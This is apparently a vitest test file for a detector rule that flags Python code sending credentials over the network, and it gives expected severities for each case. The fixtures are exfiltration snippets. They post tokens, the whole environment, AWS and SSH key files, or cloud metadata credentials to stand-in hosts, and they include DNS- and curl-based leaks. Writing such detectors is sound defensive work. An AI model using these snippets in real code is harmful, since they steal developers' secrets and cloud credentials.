import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import { namesKeyVariable } from '../../src/python/vocabulary/keys.js';
import { read } from './reading.js';

async function found(text: string): Promise<readonly string[]> {
  const { facts } = await read(`import os, requests\n${text}\n`);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity, isStrong }) => `${severity}${isStrong === true ? ', strong' : ''}`);
}

test.each([
  ['a list of variables', 'names = ["GITHUB_TOKEN", "NPM_TOKEN", "TWINE_PASSWORD"]\nrequests.post(u, json={n: os.environ.get(n) for n in names})'],
  ['variables in a loop', 'd = {}\nfor n in ("GITHUB_TOKEN", "OPENAI_API_KEY"):\n    d[n] = os.getenv(n)\nrequests.post(u, json=d)'],
  ['variables one by one', 'requests.post(u, json={"a": os.environ["GITHUB_TOKEN"], "b": os.environ["NPM_TOKEN"]})'],
  ['the key that AWS clients sign with', 'requests.post(u, json=[os.environ["AWS_SECRET_ACCESS_KEY"]])'],
  ['what a client of AWS was set up with', 'import boto3\nk = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post(u, json={"s": k.secret_key})'],
  ['each variable by its name', 'requests.post(u, json={n: os.environ[n] for n in os.environ})'],
  ['each file of the working folder', 'for r, d, f in os.walk(os.getcwd()):\n    for n in f:\n        requests.post(u, data=open(os.path.join(r, n)).read())'],
  ['the file with the keys of AWS, as what is stored with such a client', 'import boto3\nboto3.client("s3").put_object(Body=open(os.path.expanduser("~/.aws/credentials")).read())'],
  ['the file with the keys of AWS, in the address of such a client', 'import boto3\nk = open(os.path.expanduser("~/.aws/credentials")).read()\nboto3.client("s3", aws_access_key_id=k, endpoint_url=k).put_object(Body=b"x")'],
  ['the file with other keys, to set up such a client', 'import boto3\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nboto3.client("s3", aws_access_key_id=k).put_object(Body=b"x")'],
  ['the role of a machine', 'r = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")\nrequests.post(u, data=r.text)'],
])('%s is sent', async (_, text) => {
  expect(await found(text)).toEqual(['critical, strong']);
});

test.each([
  ['in a name that is looked up', 'import subprocess\nsubprocess.run(["nslookup", os.environ.get("GITHUB_TOKEN", "")[:50] + ".x.example.invalid"])'],
  ['by a program', 'import subprocess\nsubprocess.run(["curl", "-d", os.environ["NPM_TOKEN"], "https://collect.example.invalid/"])'],
])('the key to one service warns where it leaves %s to somebody else', async (_, text) => {
  expect(await found(text)).toEqual(['medium, strong']);
});

test.each([
  ['one token of its own', 'requests.get(u, headers={"Authorization": os.environ["GARDEN_TOKEN"]})'],
  ['one token that a program shows its own service', 'import subprocess\nsubprocess.run(["curl", "-H", os.environ["GITHUB_TOKEN"], "https://api.github.com/user"])'],
  ['a name and a password of one service', 'requests.get(u, auth=(os.environ["GARDEN_ACCESS_KEY_ID"], os.environ["GARDEN_PASSWORD"]))'],
  ['keys of several services, by functions that are called for it', 'def ask(url):\n    key = os.environ.get("OPENAI_API_KEY") or os.environ.get("ANTHROPIC_API_KEY")\n    requests.post(url, headers={"Authorization": key})'],
  ['a signature', 'import hmac\nrequests.get(u, headers={"A": hmac.new(os.environ["AWS_SECRET_ACCESS_KEY"].encode(), b"x").hexdigest()})'],
  ['a request that is signed', 'from requests_aws4auth import AWS4Auth\nrequests.get(u, auth=AWS4Auth(os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], "r", "es"))'],
  ['a client that is set up with keys', 'import boto3\nboto3.client("s3", aws_access_key_id=os.environ["AWS_ACCESS_KEY_ID"], aws_secret_access_key=os.environ["AWS_SECRET_ACCESS_KEY"]).put_object(Body=b"x")'],
  ['a client that is set up with keys out of the file for them', 'import boto3\nk = open(os.path.expanduser("~/.aws/credentials")).read().split()\nboto3.Session(aws_access_key_id=k[2], aws_secret_access_key=k[5]).client("s3").put_object(Body=b"x")'],
  ['a client that is set up with a dict of such keys', 'import boto3, configparser\nini = configparser.ConfigParser()\nini.read(os.path.expanduser("~/.aws/credentials"))\nboto3.Session(region_name="x", **{k: ini["default"].get(k) for k in NAMES}).client("s3").put_object(Body=b"x")'],
  ['the token that the metadata service itself is shown', 't = requests.put("http://169.254.169.254/latest/api/token").text\nrequests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", headers={"X": t})'],
  ['the name of a variable', 'requests.post(u, json={"missing": "GITHUB_TOKEN", "also": "NPM_TOKEN"})'],
])('%s is sent by honest clients', async (_, text) => {
  expect(await found(text)).toEqual([]);
});

test('a client of a cloud that is called for it may use the role of its machine', async () => {
  expect(await found('def ask(url):\n    t = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token").json()\n    requests.get(url, headers={"Authorization": t["access_token"]})')).toEqual(['low']);
});

test.each([
  ['where the code names an address of somebody else', '"https://collector.example/zz"', 'medium, strong'],
  ['where that address is one of the cloud itself', '"https://sts.amazonaws.com/"', 'low'],
  ['where whoever calls it names the address', 'url', 'low'],
])('the keys of an account that leave when a function is called count %s', async (_, address, expected) => {
  expect(await found(`import boto3\ndef connect(url):\n    k = boto3.Session().get_credentials()\n    requests.post(${address}, json={"k": k.access_key, "s": k.secret_key})`)).toEqual([expected]);
});

test.each([
  ['the keys to several services', 'data = "".join(open(os.path.expanduser(p)).read() for p in ("~/.kube/config", "~/.docker/config.json"))', 'medium, strong'],
  ['the keys to one service', 'data = open(os.path.expanduser("~/.docker/config.json")).read()', 'low, strong'],
  ['a private key', 'data = open(os.path.expanduser("~/.ssh/id_ed25519")).read()', 'medium, strong'],
  ['its public half', 'data = open(os.path.expanduser("~/.ssh/id_ed25519.pub")).read()', 'low, strong'],
])('%s that a function sends count by what they are', async (_, reading, expected) => {
  expect([...new Set(await found(`def connect():\n    ${reading}\n    requests.post("https://collector.example/zz", data=data)`))]).toEqual([expected]);
});

test('the key that AWS clients sign with counts too where its variable is read when a function is called', async () => {
  expect(await found('def connect():\n    requests.post("https://collector.example/zz", json={"s": os.environ["AWS_SECRET_ACCESS_KEY"]})')).toEqual(['medium, strong']);
});

test('a program that is called for it may upload the working folder', async () => {
  expect(await found('def deploy():\n    for r, d, f in os.walk("."):\n        for n in f:\n            requests.post(u, data=open(os.path.join(r, n)).read())')).toEqual(['low']);
});

test.each([
  ['AWS_SECRET_ACCESS_KEY', true],
  ['GH_TOKEN', true],
  ['DATABASE_PASSWORD', true],
  ['TOKENIZERS_PARALLELISM', false],
  ['token', false],
  ['PATH', false],
  ['KEYBOARD', false],
])('%s opens an account: %s', (name, isKey) => {
  expect(namesKeyVariable(name)).toBe(isKey);
});
